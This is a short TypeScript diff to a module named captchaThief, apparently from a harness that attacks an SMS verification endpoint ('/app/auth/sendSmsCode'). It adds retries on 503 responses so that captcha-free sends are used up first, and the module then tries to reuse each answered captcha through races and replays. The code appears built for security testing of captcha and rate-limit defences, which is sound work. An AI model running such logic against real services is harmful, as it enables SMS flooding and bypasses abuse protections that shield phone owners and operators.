@@ -19,6 +19,9 @@ export interface CaptchaThiefOptions {
 /** How many requests race with one answered captcha. */
 const RACERS = 10;
 
+/** A busy server refuses with 503, and then the number still has its send without a captcha. */
+const SPENDING_ATTEMPTS = 10;
+
 /**
  * Answers captchas rightly, and then tries to get more from each than one send: by a race, a second use, and one that
  * was made for something else.
@@ -32,8 +35,8 @@ export function captchaThief(stage: Stage, options: CaptchaThiefOptions): Attack
   let stolen = 0;
   let lawful = 0;
 
-  async function send(address: string, captcha: CaptchaAnswer | null): Promise<ApiAnswer> {
-    const body = { mobile: mobile(numbers++ % RACERS), ...captcha };
+  async function send(address: string, captcha: CaptchaAnswer | null, number = numbers++): Promise<ApiAnswer> {
+    const body = { mobile: mobile(number % RACERS), ...captcha };
     const answer = await stage.call(address, '/app/auth/sendSmsCode', { body });
     tally.add(answer);
     return answer;
@@ -41,7 +44,12 @@ export function captchaThief(stage: Stage, options: CaptchaThiefOptions): Attack
 
   /** Uses up what the numbers and the address get without a captcha, so that a send passes with one only. */
   async function spend(address: string): Promise<void> {
-    for (let index = 0; index < RACERS; index += 1) await send(address, null);
+    for (let index = 0; index < RACERS; index += 1) {
+      const number = numbers++;
+      for (let attempt = 0; attempt < SPENDING_ATTEMPTS; attempt += 1) {
+        if ((await send(address, null, number)).status !== 503) break;
+      }
+    }
   }
 
   const accepted = (answers: readonly ApiAnswer[]) => answers.filter(({ status }) => status === 202).length;
